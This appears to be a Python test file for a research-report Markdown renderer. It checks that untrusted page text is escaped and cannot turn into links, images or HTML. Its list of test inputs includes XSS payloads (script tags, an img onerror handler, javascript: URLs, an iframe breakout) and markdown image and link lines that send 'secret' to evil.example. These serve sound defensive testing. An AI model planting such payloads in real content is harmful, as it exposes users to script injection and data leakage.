from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from synapse.contracts.evidence import Verdict
from synapse.contracts.report import Missed
from synapse.research.render import clean, code, escape, markdown, web_address
from tests.unit.research.factory import MORE_TIDES, NEW_RULES, OLD_RULES, TIDES, changed, document, report

PAGES = [document(TIDES, "https://a.org/tides", "Tides"), document(MORE_TIDES, "https://b.org/why", "Why tides happen")]
EVIL = [
    "<script>alert(1)</script>",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example/?q=secret)",
    "https://evil.example/?q=secret",
    "www.evil.example",
    "<img src=x onerror=alert(1)>",
    "[ref]: https://evil.example",
    "`code` **bold** # head",
    "</title></li><iframe src='//evil.example'>",
    "a\u202eb\u200bc",
    "| a | b |",
    "1. one",
    "&lt;b&gt;",
]


def links_and_markup(source: str) -> tuple[list[str], list[str]]:
    """All link and image targets, and all tags other than the anchors that Synapse writes itself."""
    tokens = [child for token in MarkdownIt("commonmark").enable("table").parse(source) for child in (token.children or [token])]
    targets = [str(token.attrs.get("href") or token.attrs.get("src")) for token in tokens if token.type in ("link_open", "image")]
    raw = [token.content for token in tokens if token.type in ("html_inline", "html_block")]
    own = re.compile(r'^(?:<a id="source-\d+">|</a>)+$')
    return targets, [tag for tag in raw if not own.match(tag)]


def test_the_report_reads_answer_first_with_numbered_sources() -> None:
    source = markdown(report("When do spring tides occur?", PAGES)[0])
    assert source.startswith("# When do spring tides occur?\n\n## Answer\n\n- Spring tides occur when")
    assert "## Sources" in source
    assert "[Tides](<https://a.org/tides>)" in source
    assert "“Spring tides occur when the Sun, the Moon and the Earth stand in a line.”" in source


def test_every_mark_points_at_a_source_that_is_there() -> None:
    source = markdown(report("What are tides and when do spring tides occur?", PAGES)[0])
    cited = set(re.findall(r"\(#source-(\d+)\)", source))
    assert cited == set(re.findall(r'<a id="source-(\d+)"></a>', source))
    assert cited


def test_only_the_verdicts_in_use_are_explained() -> None:
    made, _ = report("When do spring tides occur?", PAGES[:1])
    assert {sentence.verdict for sentence in made.answer} == {Verdict.SINGLE_SOURCE}
    assert "single source" in markdown(made)
    assert "corroborated" not in markdown(made)


def test_no_evidence_says_so() -> None:
    made, _ = report("What is the capital of Mongolia?", PAGES, missed=[Missed(what="https://c.org/x", reason="timed out")])
    source = markdown(made)
    assert "**No evidence found.**" in source
    assert "timed out" in source


@pytest.mark.parametrize("evil", EVIL)
def test_what_a_page_says_never_becomes_a_link_an_image_or_markup(evil: str) -> None:
    page = document(f"{evil}\n\nSpring tides occur when {evil} the Sun and the Moon align in a line.", "https://a.org/x", f"Tides {evil}")
    made, _ = report(f"When do spring tides occur? {evil}", [page, *PAGES], missed=[Missed(what=evil, reason=evil)])
    targets, markup = links_and_markup(markdown(made))
    assert markup == []
    assert all(
        target.startswith("#source-") or target in ("https://a.org/x", "https://a.org/tides", "https://b.org/why") for target in targets
    )


@settings(max_examples=200)
@given(st.text(max_size=80))
def test_escaped_text_renders_as_itself(text: str) -> None:
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(f"x {escape(text)}")
    assert [token.type for token in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    children = tokens[1].children or []
    assert {token.type for token in children} <= {"text", "text_special"}
    assert "".join(token.content for token in children) == f"x {clean(text)}".rstrip()


def test_underscores_emphasise_nothing() -> None:
    for text in ("_a_", "__init__", "a__b__", "snake_case_name", "_private and other_"):
        children = MarkdownIt("commonmark").parse(f"x {escape(text)}")[1].children or []
        assert "".join(child.content for child in children) == f"x {text}"


@given(st.lists(st.sampled_from(["https", "://", "www.", "a", "@", "b.org", " ", "\\", "_", ":", "//", "WWW."]), max_size=12))
def test_no_bare_address_is_left_for_a_reader_to_link(parts: list[str]) -> None:
    assert not re.search(r"(?i)\w://|(?<!\\)//|\bwww\.|\w@\w", escape("".join(parts)))


def test_plain_prose_and_names_stay_readable_in_the_source() -> None:
    text = "pg_stat_progress (see 3.1) is read-only; a/b = c, 50% #1!"
    assert escape(text) == text


@given(st.text(max_size=60))
def test_clean_text_is_one_visible_line(text: str) -> None:
    assert not re.search("[\\x00-\\x1f\\x7f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]", clean(text))


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "https://user:pw@a.org/", "//a.org/x", "corpus://docs/x", "http://", "https://[bad"]
)
def test_only_plain_web_addresses_are_linked(url: str) -> None:
    assert web_address(url) is None


@given(st.text(max_size=40))
def test_an_address_that_is_not_linked_is_one_code_span(text: str) -> None:
    children = MarkdownIt("commonmark").parse(f"x {code(text)}")[1].children or []
    assert [token.type for token in children] == ["text", "code_inline"]


def test_a_quote_of_a_paper_shows_its_page_and_a_source_who_wrote_it() -> None:
    paper = document(TIDES, "https://a.org/tides.pdf", "Tides")
    stated = {"pages": (0, 10, TIDES.index("Spring")), "authors": tuple("ABCDE"), "published": "2024-01-31", "language": "en"}
    made, _ = report("When do spring tides occur?", [replace(paper, snapshot=paper.snapshot.model_copy(update=stated))])
    shown = markdown(made)
    assert re.search(r"> “Spring tides occur .*” \*\(p\. 3, characters \d+–\d+\)\*", shown)
    assert "(a.org, by A, B, C, others, published 2024-01-31, language en, read 2026-01-02)" in shown


def test_a_web_page_has_no_pages_to_show() -> None:
    assert "*(characters " in markdown(report("When do spring tides occur?", [document(TIDES, "https://a.org/tides", "Tides")])[0])


def test_an_address_cannot_break_out_of_its_brackets() -> None:
    address = web_address('https://a.org/x>)![y](https://evil.example/"')
    assert address is not None
    assert not set(address) & set('<>()[]" ')


def test_what_newer_editions_changed_is_shown_with_both_dates() -> None:
    shown = markdown(changed()[0])
    assert "## Where sources may disagree" not in shown
    assert re.search(rf"## What newer editions changed\n\n- Newer \(2025\): {NEW_RULES} ○.*\n- Older \(2023\): {OLD_RULES} ⊘", shown)
    assert "- ⊘ superseded: " in shown
